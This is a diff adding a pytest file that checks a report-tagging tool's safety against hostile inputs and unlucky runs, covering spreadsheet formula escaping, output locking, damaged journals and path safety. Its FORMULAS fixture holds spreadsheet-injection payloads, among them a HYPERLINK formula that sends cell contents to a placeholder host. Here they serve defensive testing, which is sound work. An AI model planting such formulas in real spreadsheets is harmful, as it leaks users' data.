@@ -1,0 +1,273 @@
+"""Hostile inputs and unlucky runs: nothing injected into spreadsheets, no run killed by one
+file, outputs that cannot destroy inputs or each other, damaged state read without a
+traceback, and no worker left behind."""
+
+from __future__ import annotations
+
+import csv
+import json
+import os
+import signal
+import subprocess
+import sys
+import time
+import zipfile
+from pathlib import Path
+
+import pytest
+from files import REPORT, themetag
+from openpyxl import load_workbook
+
+from themetag import load_model
+from themetag.readers import find_reports
+from themetag.run.journal import Journal, run_key
+from themetag.run.tasks import ReportResult, tag_file_batch
+from themetag.writers.tables import write_xlsx
+
+FORMULAS = [
+    '=HYPERLINK("http://example.invalid/?"&A1,"点击")',
+    "+SUM(1,2)",
+    "-2+3",
+    "@cmd",
+]
+
+
+def read_csv(path: Path) -> list[dict]:
+    with open(path, encoding="utf-8-sig", newline="") as handle:
+        return list(csv.DictReader(handle))
+
+
+@pytest.fixture()
+def formula_folder(tmp_path) -> Path:
+    folder = tmp_path / "in"
+    folder.mkdir()
+    text = REPORT + "\n".join(FORMULAS) + "\n"
+    (folder / "=HYPERLINK(1).txt").write_text(text, encoding="utf-8")
+    (folder / "@report.txt").write_text(text, encoding="utf-8")
+    return folder
+
+
+def test_no_text_reaches_a_csv_as_a_formula(formula_folder, tmp_path):
+    output = tmp_path / "tags.csv"
+    assert themetag("tag", formula_folder, "-o", output, "-q").returncode == 0
+    rows = read_csv(output) + read_csv(tmp_path / "tags.profiles.csv")
+    cells = [value for row in rows for value in row.values() if isinstance(value, str)]
+    live = [c for c in cells if c.startswith(("=", "+", "-", "@"))]
+    assert live == []
+    texts = {row["text"] for row in read_csv(output)}
+    assert {"'" + formula for formula in FORMULAS} <= texts  # escaped, still readable
+
+
+def test_no_text_reaches_an_excel_file_as_a_formula(formula_folder, tmp_path):
+    output = tmp_path / "tags.xlsx"
+    assert themetag("tag", formula_folder, "-o", output, "-q").returncode == 0
+    with zipfile.ZipFile(output) as archive:
+        sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/")]
+        assert all(b"<f>" not in archive.read(name) for name in sheets)
+    workbook = load_workbook(output)
+    texts = [cell.value for row in workbook["segments"].iter_rows(min_row=2) for cell in row]
+    assert set(FORMULAS) <= set(texts)  # shown exactly as written, as text
+
+
+def test_an_excel_table_longer_than_a_sheet_goes_on_in_further_sheets(tmp_path):
+    rows = [{"n": i, "text": f"第{i}段"} for i in range(7)]
+    write_xlsx({"segments": (["n", "text"], rows)}, tmp_path / "x.xlsx", rows_per_sheet=3)
+    workbook = load_workbook(tmp_path / "x.xlsx")
+    assert workbook.sheetnames == ["segments", "segments 2", "segments 3", "segments 4"]
+    values = [row[0] for sheet in workbook for row in sheet.iter_rows(min_row=2, values_only=True)]
+    assert values == list(range(7))
+    assert all(next(sheet.iter_rows(values_only=True)) == ("n", "text") for sheet in workbook)
+
+
+def test_a_second_run_on_the_same_output_is_refused_while_the_first_holds_it(tmp_path):
+    folder = tmp_path / "in"
+    folder.mkdir()
+    (folder / "a.txt").write_text(REPORT, encoding="utf-8")
+    output = tmp_path / "tags.csv"
+    holder = subprocess.Popen([sys.executable, "-c", "import time; time.sleep(60)"])
+    try:
+        lock = {"pid": holder.pid, "host": os.uname().nodename, "started": "09:00:00"}
+        Path(f"{output}.lock").write_text(json.dumps(lock), encoding="utf-8")
+        refused = themetag("tag", folder, "-o", output)
+        assert refused.returncode == 2
+        assert f"pid {holder.pid}" in refused.stderr and "another themetag run" in refused.stderr
+        assert not output.exists()
+    finally:
+        holder.kill()
+        holder.wait()
+    # The holder is gone: its lock is stale and taken over, then removed at the end.
+    done = themetag("tag", folder, "-o", output, "-q")
+    assert done.returncode == 0 and output.exists()
+    assert not Path(f"{output}.lock").exists()
+
+
+def test_two_runs_at_once_never_mix_their_output(tmp_path):
+    folder = tmp_path / "many"
+    folder.mkdir()
+    for number in range(300):
+        (folder / f"r{number:03d}.txt").write_text(REPORT * 6 + f"第{number}号\n", "utf-8")
+    output = tmp_path / "tags.csv"
+    command = [sys.executable, "-m", "themetag.cli", "tag", str(folder), "-o", str(output), "-q"]
+    first = subprocess.Popen(command, stderr=subprocess.PIPE, text=True)
+    deadline = time.time() + 60
+    while not Path(f"{output}.lock").exists() and time.time() < deadline:
+        time.sleep(0.01)
+    second = subprocess.run(command, capture_output=True, text=True)
+    first_error = first.communicate(timeout=300)[1]
+    assert first.returncode == 0, first_error
+    assert second.returncode == 2 and "another themetag run" in second.stderr
+    rows = read_csv(output)
+    assert len({row["report"] for row in rows}) == 300
+    assert len({(row["report"], row["segment"]) for row in rows}) == len(rows)  # no duplicate
+
+
+@pytest.mark.skipif(sys.platform != "linux", reason="file names as raw bytes: Linux")
+def test_a_file_name_that_is_not_utf8_is_tagged_and_written_readably(tmp_path):
+    folder = tmp_path / "in"
+    folder.mkdir()
+    name = "中文报告.txt".encode("gb18030")  # as unzipped from a Chinese Windows archive
+    with open(os.path.join(os.fsencode(folder), name), "wb") as handle:
+        handle.write(REPORT.encode("utf-8"))
+    for args in (["-o", tmp_path / "t.csv", "--html", tmp_path / "p.html"], []):
+        result = themetag("tag", folder, *args)
+        assert result.returncode == 0, result.stderr
+    assert {Path(r["report"]).name for r in read_csv(tmp_path / "t.csv")} == {"中文报告.txt"}
+    assert "中文报告.txt" in (tmp_path / "p.html").read_text(encoding="utf-8")
+
+
+def test_the_journal_keeps_a_name_that_is_not_utf8_exactly(tmp_path):
+    path = os.fsdecode(b"/tmp/\xd6\xd0\xce\xc4.txt")  # lone surrogates in a str
+    journal = Journal(tmp_path / "j", "key")
+    journal.start(resume=False)
+    journal.append(ReportResult(path, error="the file is empty"))
+    (back,) = list(journal.results())
+    assert back.path == path
+
+
+def test_damaged_journal_lines_are_tagged_again_and_nothing_is_lost(tmp_path):
+    folder = tmp_path / "in"
+    folder.mkdir()
+    for number in range(5):
+        (folder / f"r{number}.txt").write_text(REPORT + f"第{number}号\n", "utf-8")
+    complete = tmp_path / "complete.csv"
+    assert themetag("tag", folder, "-o", complete, "-q").returncode == 0
+    output = tmp_path / "tags.csv"
+    journal = Path(f"{output}.journal")
+    # A run journaled two reports, then a power cut: a NUL-filled line and one of garbage.
+    reports = find_reports([folder])
+    interrupted = Journal(journal, run_key(reports, load_model().card_digest))
+    interrupted.start(resume=False)
+    for result in tag_file_batch([str(p) for p in reports[:2]], load_model()):
+        interrupted.append(result)
+    with open(journal, "ab") as handle:
+        handle.write(b"\x00" * 300 + b"\n" + b'{"path": 3, "rows": "x"}\n')
+    resumed = themetag("tag", folder, "-o", output, "--resume", "-q")
+    assert resumed.returncode == 0, resumed.stderr
+    assert "Traceback" not in resumed.stderr
+    assert output.read_bytes() == complete.read_bytes()
+
+
+def test_one_report_that_runs_out_of_memory_fails_alone(tmp_path, monkeypatch, small_model):
+    import themetag.run.tasks as tasks
+
+    paths = []
+    for name, text in (("a.txt", REPORT), ("huge.txt", REPORT * 40), ("b.txt", REPORT)):
+        (tmp_path / name).write_text(text, encoding="utf-8")
+        paths.append(str(tmp_path / name))
+    real = tasks.tag_reports
+
+    def tag_reports(texts, *, model):
+        if sum(map(len, texts)) > len(REPORT) * 30:
+            raise MemoryError
+        return real(texts, model=model)
+
+    monkeypatch.setattr(tasks, "tag_reports", tag_reports)
+    a, huge, b = tag_file_batch(paths, small_model)
+    assert a.rows and b.rows and a.error is None and b.error is None
+    assert huge.error and "ran out of memory" in huge.error and not huge.rows
+
+
+@pytest.mark.parametrize(
+    ("case", "message"),
+    [
+        ("an input as -o", "one of the reports being tagged"),
+        ("an input as the page", "one of the reports being tagged"),
+        ("a device as -o", "not a regular file"),
+        ("a device as the page", "not a regular file"),
+        ("a link", "not a regular file"),
+        ("the page on a table", "where the tables go"),
+    ],
+)
+def test_outputs_never_destroy_an_input_a_device_or_each_other(case, message, tmp_path):
+    report = tmp_path / "report.txt"
+    report.write_text(REPORT, encoding="utf-8")
+    target = tmp_path / "elsewhere.csv"
+    target.write_text("keep", encoding="utf-8")
+    (tmp_path / "link.csv").symlink_to(target)
+    args = {
+        "an input as -o": ["-o", report, "--format", "csv"],
+        "an input as the page": ["--html", report],
+        "a device as -o": ["-o", "/dev/null"],
+        "a device as the page": ["--html", "/dev/null"],
+        "a link": ["-o", tmp_path / "link.csv"],
+        "the page on a table": ["-o", tmp_path / "x.csv", "--html", tmp_path / "x.csv"],
+    }[case]
+    result = themetag("tag", report, *args)
+    assert result.returncode == 2, result.stderr
+    assert message in result.stderr
+    assert report.read_text(encoding="utf-8") == REPORT
+    assert Path("/dev/null").is_char_device()
+    assert target.read_text(encoding="utf-8") == "keep" and (tmp_path / "link.csv").is_symlink()
+
+
+@pytest.mark.skipif(sys.platform != "linux", reason="the kernel's parent-death signal: Linux")
+def test_a_killed_parallel_run_leaves_no_worker_behind(tmp_path):
+    folder = tmp_path / "many"
+    folder.mkdir()
+    for number in range(40):
+        (folder / f"r{number:02d}.txt").write_text(REPORT * 400 + f"第{number}号\n", "utf-8")
+    command = [sys.executable, "-m", "themetag.cli", "tag", str(folder), "-o",
+               str(tmp_path / "t.csv"), "-q", "--jobs", "2"]  # fmt: skip
+    run = subprocess.Popen(command)
+    workers: set[int] = set()
+    deadline = time.time() + 60
+    while time.time() < deadline and not any("Loky" in _command(pid) for pid in workers):
+        workers |= _children(run.pid)
+        time.sleep(0.1)
+    time.sleep(1)
+    workers |= _children(run.pid)
+    assert any("Loky" in _command(pid) for pid in workers), "no worker started"
+    run.send_signal(signal.SIGKILL)
+    run.wait()
+    deadline = time.time() + 20
+    while time.time() < deadline and any(_running(pid) for pid in workers):
+        time.sleep(0.2)
+    assert [_command(pid) for pid in workers if _running(pid)] == []
+
+
+def _command(pid: int) -> str:
+    try:
+        return Path(f"/proc/{pid}/cmdline").read_bytes().replace(b"\0", b" ").decode()
+    except OSError:
+        return ""
+
+
+def _children(pid: int) -> set[int]:
+    found = set()
+    for entry in Path("/proc").iterdir():
+        if entry.name.isdigit():
+            try:
+                fields = (entry / "stat").read_text().rsplit(")", 1)[1].split()
+            except OSError:
+                continue
+            if int(fields[1]) == pid:
+                found.add(int(entry.name))
+    return found
+
+
+def _running(pid: int) -> bool:
+    try:
+        state = Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()[0]
+    except OSError:
+        return False
+    return state != "Z"
